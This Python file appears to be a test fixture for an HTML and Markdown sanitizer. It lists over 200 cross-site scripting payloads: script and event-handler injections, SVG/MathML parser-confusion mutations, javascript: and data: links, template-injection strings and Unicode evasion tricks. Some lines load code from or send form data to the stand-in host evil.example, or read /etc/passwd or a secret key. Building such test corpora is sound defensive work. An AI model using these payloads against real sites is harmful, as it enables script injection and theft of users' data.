"""What people might write so that it runs in the pages of others. Ours, 200 of them and more.

Each that works says `pwned`: by a mark in the window, a dialog, or a request to another site.
"""

# ruff: noqa: E501 - a payload is one line
TAGS = """
<script>pwned=1</script>
<ScRiPt>pwned=1</sCrIpT>
<script src=//evil.example/x.js></script>
<script src="data:text/javascript,pwned=1"></script>
<script type=module>pwned=1</script>
<script type="text/javascript">pwned=1</script >
<script/x>pwned=1</script>
<scr<script>ipt>pwned=1</scr</script>ipt>
<<script>pwned=1//<</script>
</script><script>pwned=1</script>
</title><script>pwned=1</script>
</textarea><script>pwned=1</script>
</style><script>pwned=1</script>
</template><script>pwned=1</script>
</noscript><script>pwned=1</script>
<iframe src=javascript:pwned=1></iframe>
<iframe srcdoc="<script>parent.pwned=1</script>">
<iframe src="data:text/html,<script>1</script>">
<object data=javascript:pwned=1></object>
<object data="data:text/html,x"></object>
<embed src=javascript:pwned=1>
<embed src=//evil.example/x.swf>
<applet code=x></applet>
<base href=//evil.example/>
<base href="javascript:pwned=1//">
<meta http-equiv=refresh content="0;url=//evil.example">
<meta http-equiv=refresh content="0;javascript:pwned=1">
<meta http-equiv=content-security-policy content="">
<meta charset=utf-7>+ADw-script+AD4-pwned=1+ADw-/script+AD4-
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/>
<link rel=preload as=script href=//evil.example/x.js>
<link rel=import href=//evil.example/>
<link rel=manifest href=//evil.example/>
<frameset onload=pwned=1><frame></frameset>
<portal src=javascript:pwned=1></portal>
<fencedframe src=//evil.example></fencedframe>
<dialog open onclose=pwned=1>x</dialog>
<slot name=x onslotchange=pwned=1></slot>
<xss id=x tabindex=1 onfocus=pwned=1></xss>
<xmp><img src=x onerror=pwned=1></xmp>
<plaintext><b>the rest of the page is gone
<listing><script>pwned=1</script></listing>
<marquee onstart=pwned=1>x</marquee>
<bgsound src=javascript:pwned=1>
<isindex action=javascript:pwned=1 type=image>
<keygen autofocus onfocus=pwned=1>
<form id=x><input name=action></form>
<form action=javascript:pwned=1><button>x</button>
<form action=//evil.example><input name=password>
<button formaction=javascript:pwned=1>x</button>
<input type=image src=//evil.example/x.png>
"""

ATTRIBUTES = """
<img src=x onerror=pwned=1>
<img src=x OnErRoR=pwned=1>
<img/src=x/onerror=pwned=1>
<img src=x onerror="pwned=1"//
<img src=x:x onerror&#61;pwned=1>
<img src=x onerror=&#112;wned=1>
<img src="x` `<script>pwned=1</script>"` `>
<img src='x' onerror='pwned=1' '
<img ""><script>pwned=1</script>"">
<img src=//evil.example/x.png>
<img srcset=//evil.example/x.png>
<img src=x onload=pwned=1 onerror=pwned=1>
<img lowsrc=javascript:pwned=1>
<img dynsrc=javascript:pwned=1>
<image src=x onerror=pwned=1>
<body onload=pwned=1>
<body background=//evil.example/x.png>
<body onpageshow=pwned=1 onhashchange=pwned=1>
<input autofocus onfocus=pwned=1>
<select autofocus onfocus=pwned=1></select>
<textarea autofocus onfocus=pwned=1></textarea>
<details open ontoggle=pwned=1>x</details>
<video src=x onerror=pwned=1></video>
<video><source onerror=pwned=1></video>
<video poster=javascript:pwned=1></video>
<audio src=x onerror=pwned=1></audio>
<track default src=x onerror=pwned=1>
<p style=animation-name:x onanimationstart=pwned=1>x
<p contenteditable onbeforeinput=pwned=1>x</p>
<p onpointerover=pwned=1 onmouseover=pwned=1>hover</p>
<b popover id=p onbeforetoggle=pwned=1>x</b>
<a autofocus tabindex=1 onfocusin=pwned=1>x</a>
" onmouseover=pwned=1 x="
' onmouseover=pwned=1 x='
" autofocus onfocus=pwned=1 x="
"><script>pwned=1</script>
'><script>pwned=1</script>
"><img src=x onerror=pwned=1>
'"><svg onload=pwned=1>
` onmouseover=pwned=1 `
=><img src=x onerror=pwned=1>
--><img src=x onerror=pwned=1>
]]><img src=x onerror=pwned=1>
*/--><img src=x onerror=pwned=1>/*
"""

FOREIGN = """
<svg onload=pwned=1>
<svg/onload=pwned=1>
<svg><script>pwned=1</script></svg>
<svg><script href=//evil.example/x.js /></svg>
<svg><script>&#112;wned=1</script></svg>
<svg><a xlink:href=javascript:pwned=1><text>x</text></a>
<svg><a><animate attributeName=href values=javascript:pwned=1 /><text>x
<svg><set attributeName=onmouseover to=pwned=1>
<svg><animate onbegin=pwned=1 attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x onload=pwned=1>#x">
<svg><use href=//evil.example/x.svg#x></svg>
<svg><image href=//evil.example/x.png></svg>
<svg><foreignObject><img src=x onerror=pwned=1></foreignObject></svg>
<svg><style>*{background:url(//evil.example/)}</style></svg>
<svg><title><script>pwned=1</script></title></svg>
<svg><desc><![CDATA[</desc><script>pwned=1</script>]]></svg>
<svg><handler type=text/javascript>pwned=1</handler></svg>
<math href=javascript:pwned=1>x</math>
<math><maction actiontype=statusline xlink:href=javascript:pwned=1>x
<math><annotation-xml encoding=text/html><script>pwned=1</script>
<math><mi//xlink:href="data:x,<script>pwned=1</script>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned=1&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned=1>
<svg></p><style><a id="</style><img src=x onerror=pwned=1>">
<svg><p><style><g title="</style><img src=x onerror=pwned=1>"></svg>
<noscript><p title="</noscript><img src=x onerror=pwned=1>">
<noembed><img title="</noembed><img src=x onerror=pwned=1>">
<noframes><img title="</noframes><img src=x onerror=pwned=1>">
<template><script>pwned=1</script></template>
<div><template shadowrootmode=open><script>pwned=1</script>
<table><td><script>pwned=1</script></table>
<select><template><img src=x onerror=pwned=1></template></select>
<select><style><img src=x onerror=pwned=1></style></select>
<textarea><img title="</textarea><img src=x onerror=pwned=1>">
<title><img title="</title><img src=x onerror=pwned=1>">
<style><img title="</style><img src=x onerror=pwned=1>">
<xmp><p title="</xmp><svg/onload=pwned=1>">
<a title="&lt;img src=x onerror=pwned=1&gt;">x</a>
<p id=x><p name=x><form id=attributes><input name=nodeName>
<img name=getElementById><form id=querySelector>
<a id=currentScript href=//evil.example></a>
<?xml version="1.0"?><?pwned=1?>
<!--><script>pwned=1</script>-->
<!--!><img src=x onerror=pwned=1>--!>
<!-- --!><img src=x onerror=pwned=1> -->
<!--[if true]><script>pwned=1</script><![endif]-->
<!DOCTYPE x [<!ENTITY y "<script>pwned=1</script>">]>&y;
<![CDATA[<script>pwned=1</script>]]>
<!ELEMENT <script>pwned=1</script>
"""

ADDRESSES = """
javascript:pwned=1
JaVaScRiPt:pwned=1
javascript://evil.example/%0apwned=1
javascript:/*--></title></style>*/pwned=1
&#106;avascript:pwned=1
&#x6A&#x61&#x76&#x61script:pwned=1
data:text/html,<script>pwned=1</script>
data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+
data:image/svg+xml,<svg onload=pwned=1>
vbscript:pwned=1
livescript:pwned=1
view-source:javascript:pwned=1
blob:https://evil.example/x
filesystem:https://evil.example/x
feed:javascript:pwned=1
[click](javascript:pwned=1)
[click](JaVaScRiPt:pwned=1)
[click](javascript&colon;pwned=1)
[click](&#106;avascript:pwned=1)
[click](&#x6A;avascript&#58;pwned=1)
[click](<javascript:pwned=1>)
[click](\\x01javascript:pwned=1)
[click](java%0ascript:pwned=1)
[click](data:text/html,<script>pwned=1</script>)
[click](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)
[click](vbscript:pwned=1)
[click](file:///etc/passwd)
[click](//evil.example "onmouseover=pwned=1")
[click](https://evil.example/"onmouseover="pwned=1)
[click](https://evil.example 'x' onmouseover='pwned=1')
[<img src=x onerror=pwned=1>](https://evil.example)
[![x](javascript:pwned=1)](javascript:pwned=1)
![x](javascript:pwned=1)
![x](https://evil.example/pixel.png)
![x" onerror="pwned=1](x)
![x](x "onerror=pwned=1")
![x](data:image/svg+xml,<svg onload=pwned=1>)
<javascript:pwned=1>
<https://evil.example/"onmouseover=pwned=1>
<x@evil.example"onmouseover=pwned=1>
https://evil.example/"onmouseover="pwned=1
https://evil.example/<script>pwned=1</script>
https://evil.example/'onmouseover='pwned=1
www.evil.example"><img src=x onerror=pwned=1>
mailto:x@evil.example?body=<script>pwned=1</script>
"""

MARKDOWN = """
`<script>pwned=1</script>`
``<img src=x onerror=pwned=1>``
**<img src=x onerror=pwned=1>**
# <img src=x onerror=pwned=1>
> <img src=x onerror=pwned=1>
- <img src=x onerror=pwned=1>
1. <svg onload=pwned=1>
~~<svg onload=pwned=1>~~
| <svg onload=pwned=1> |
@<img src=x onerror=pwned=1>
@"><svg onload=pwned=1>
:<svg onload=pwned=1>:
\\<script>pwned=1\\</script>
&lt;script&gt;pwned=1&lt;/script&gt;
&amp;lt;script&amp;gt;pwned=1&amp;lt;/script&amp;gt;
&#60;script&#62;pwned=1&#60;/script&#62;
&#x3c;script&#x3e;pwned=1
&NewLine;<svg onload=pwned=1>&Tab;
%3Cscript%3Epwned=1%3C/script%3E
{{constructor.constructor('pwned=1')()}}
${pwned=1}
#{pwned=1}
<%= pwned=1 %>
{% debug %}{{ settings.SECRET_KEY }}
{{''.__class__.__mro__[1].__subclasses__()}}
[[${pwned=1}]]
`${pwned=1}`
';pwned=1//
";pwned=1//
\\";pwned=1//
'-pwned=1-'
"-pwned=1-"
</script>';pwned=1//
\\u003cscript\\u003epwned=1\\u003c/script\\u003e
\\x3cscript\\x3epwned=1\\x3c/script\\x3e
__proto__
constructor
{"__proto__":{"html":"<img src=x onerror=pwned=1>"}}
<style>*{background:url(//evil.example/)}</style>
<style>@import'//evil.example/x.css';</style>
<p style="background:url(//evil.example/)">x</p>
<p style="width:expression(pwned=1)">x</p>
<p style="-moz-binding:url(//evil.example/x.xml#x)">x
<p style=position:fixed;inset:0;z-index:9>covers all</p>
<p class="composer__send" hidden>x</p>
</p></div></article></main><h1>Broken out</h1>
jaVasCript:/*-/*`/*\\`/*'/*"/**/(/* */pwned=1 )//%0D%0A</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwned=1//>\\x3e
'">><marquee><img src=x onerror=pwned=1></marquee>"></plaintext\\></|\\><plaintext/onmouseover=pwned=1>
\"><svg/onload=pwned=1>'\"<!--
"""

# What a line of this file cannot hold, or what a reader would take for something else.
UNSEEN = [
    "<img src=x\nonerror=pwned=1>",
    "<img\tsrc=x\tonerror=pwned=1>",
    "<img\x0csrc=x\x0conerror=pwned=1>",
    "<script\n>pwned=1</script\n>",
    "[click](java\tscript:pwned=1)",
    "[click](java\nscript:pwned=1)",
    "[x]: javascript:pwned=1\n\n[x]",
    "[x]: https://evil.example 'x\" onmouseover=pwned=1'\n\n[x]",
    "```<img src=x onerror=pwned=1>\n<img src=x onerror=pwned=1>\n```",
    "```html\n<script>pwned=1</script>\n```",
    '```"onmouseover="pwned=1\nx\n```',
    "~~~ <svg/onload=pwned=1>\nx\n~~~",
    "    <script>pwned=1</script>",
    "| a |\n|---|\n| <img src=x onerror=pwned=1> |",
    "\uff1cscript\uff1epwned=1\uff1c/script\uff1e",
    "\u2039script\u203apwned=1",
    "<scr\u0131pt>pwned=1</scr\u0131pt>",
    "<\u017fcript>pwned=1</\u017fcript>",
    "<script>\u2028pwned=1\u2029</script>",
    "\u202e<script>pwned=1</script>\u202c",
    "\ufeff<svg onload=pwned=1>",
    "<\u200bscript>pwned=1</\u200bscript>",
    "<img src=x onerror=\u200bpwned=1>",
    "\u00ad<svg onload=pwned=1>",
    "\xc0\xbcscript\xc0\xbepwned=1",
    "\xe0\x80\xbcscript>pwned=1",
    "\xf0\x80\x80\xbcsvg onload=pwned=1>",
    "\ufffd<svg onload=pwned=1>\ufffd",
    "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
    "\x1b$B<script>pwned=1</script>\x1b(B",
    "\x08\x1b[2K<svg onload=pwned=1>",
    "<svg onload=pwned=1" + "\u0301" * 60,
    "\U000e0001\U000e003c\U000e0073\U000e0076\U000e0067",
    "<a href='\u0001javascript:pwned=1'>x</a>",
    "<a href='java\u0000script:pwned=1'>x</a>".replace("\0", "\x01"),
]

PAYLOADS = [
    *(
        line
        for part in (TAGS, ATTRIBUTES, FOREIGN, ADDRESSES, MARKDOWN)
        for line in part.strip().splitlines()
    ),
    *UNSEEN,
]
